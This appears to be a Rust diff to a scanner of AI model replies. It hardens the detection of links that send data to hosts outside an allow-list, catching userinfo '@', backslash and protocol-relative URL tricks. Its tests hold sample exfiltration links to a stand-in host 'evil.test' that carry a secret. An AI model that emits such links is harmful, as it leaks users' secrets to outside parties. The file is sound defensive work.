@@ -91,15 +91,36 @@ fn leaks(reply: &str, system: &str) -> Vec<Span> {
     spans
 }
 
+/// Markdown links and images (`[t](url)`, `![t](url)`, also with a
+/// protocol-relative `//host` URL) and bare `http(s)://` URLs.
 static LINK: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(!?)\[[^\]\n]{0,200}\]\(\s*<?(https?://([^/\s)>?#:]+)[^\s)>]*)|\b(https?://([^/\s)>?#:"'<]+)[^\s)>"'<]*)"#)
+    Regex::new(r#"(?i)(!?)\[[^\]\n]{0,200}\]\(\s*<?((?:https?:)?//[^\s)>]*)|\b(https?://[^\s)>"'<]*)"#)
         .unwrap_or_else(|e| panic!("link regex: {e}"))
 });
 
+/// The host a browser would contact for `url` (`scheme://` or `//`
+/// prefix): the authority ends at `/`, `?`, `#` or `\` (browsers read a
+/// backslash as a slash), user info before the last `@` and a port are
+/// dropped.
+pub(crate) fn url_host(url: &str) -> Option<String> {
+    let rest = url.split_once("//")?.1;
+    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
+    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    let host = if let Some(v6) = host_port.strip_prefix('[') {
+        v6.split(']').next().unwrap_or("")
+    } else {
+        host_port
+            .rsplit_once(':')
+            .filter(|(_, p)| p.chars().all(|c| c.is_ascii_digit()))
+            .map_or(host_port, |(h, _)| h)
+    };
+    let host = host.trim_end_matches('.').to_lowercase();
+    (!host.is_empty()).then_some(host)
+}
+
 fn host_allowed(host: &str, allowed: &[String]) -> bool {
-    let host = host.trim_end_matches('.').to_ascii_lowercase();
     allowed.iter().any(|a| {
-        let a = a.trim_start_matches("*.").to_ascii_lowercase();
+        let a = a.trim_start_matches("*.").trim_end_matches('.').to_lowercase();
         host == a || host.ends_with(&format!(".{a}"))
     })
 }
@@ -133,12 +154,13 @@ pub(crate) fn output_findings(reply: &str, ctx: &OutputContext) -> Vec<Finding> 
     }
     if !ctx.allowed_hosts.is_empty() {
         for c in LINK.captures_iter(reply) {
-            let (image, url, host) = match (c.get(2), c.get(3), c.get(4), c.get(5)) {
-                (Some(u), Some(h), _, _) => (c.get(1).is_some_and(|m| !m.is_empty()), u, h),
-                (_, _, Some(u), Some(h)) => (false, u, h),
+            let (image, url) = match (c.get(2), c.get(3)) {
+                (Some(u), _) => (c.get(1).is_some_and(|m| !m.is_empty()), u),
+                (_, Some(u)) => (false, u),
                 _ => continue,
             };
-            if host_allowed(host.as_str(), &ctx.allowed_hosts) {
+            let Some(host) = url_host(url.as_str()) else { continue };
+            if host_allowed(&host, &ctx.allowed_hosts) {
                 continue;
             }
             let whole = c.get(0).unwrap_or(url);
@@ -258,9 +280,28 @@ mod tests {
     }
 
     #[test]
+    fn url_hosts() {
+        assert_eq!(url_host("https://example.com:443@evil.test/?d=1").as_deref(), Some("evil.test"));
+        assert_eq!(url_host("https://evil.test\\.example.com/p").as_deref(), Some("evil.test"));
+        assert_eq!(url_host("//evil.test/p.png?d=1").as_deref(), Some("evil.test"));
+        assert_eq!(url_host("https://User@Docs.Example.com:8080/x").as_deref(), Some("docs.example.com"));
+        assert_eq!(url_host("http://[::1]:80/").as_deref(), Some("::1"));
+        let ctx = OutputContext { allowed_hosts: vec!["example.com".into()], ..OutputContext::default() };
+        for reply in [
+            "see https://example.com:443@evil.test/?d=SECRET",
+            "see https://evil.test\\.example.com/p?d=SECRET",
+            "![x](//evil.test/p.png?d=SECRET)",
+        ] {
+            assert_eq!(output_findings(reply, &ctx).len(), 1, "{reply}");
+        }
+        assert!(output_findings("docs at https://docs.example.com/a?b=c", &ctx).is_empty());
+    }
+
+    #[test]
     fn hosts() {
         let allowed = vec!["example.com".to_string()];
         assert!(host_allowed("docs.example.com", &allowed));
+        assert!(host_allowed("example.com", &["Example.COM.".to_string()]));
         assert!(!host_allowed("example.com.evil.test", &allowed));
         assert!(!host_allowed("badexample.com", &allowed));
     }
